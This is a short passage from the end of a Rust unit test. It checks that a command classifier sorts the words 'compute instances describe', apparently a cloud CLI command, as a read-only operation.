        let c = classify(&args, &Options::default()).unwrap_or_else(|r| panic!("refused: {r}"));
        assert_eq!(c.words, ["compute", "instances", "describe"]);
        assert_eq!(c.class, Class::Read);
    }
}
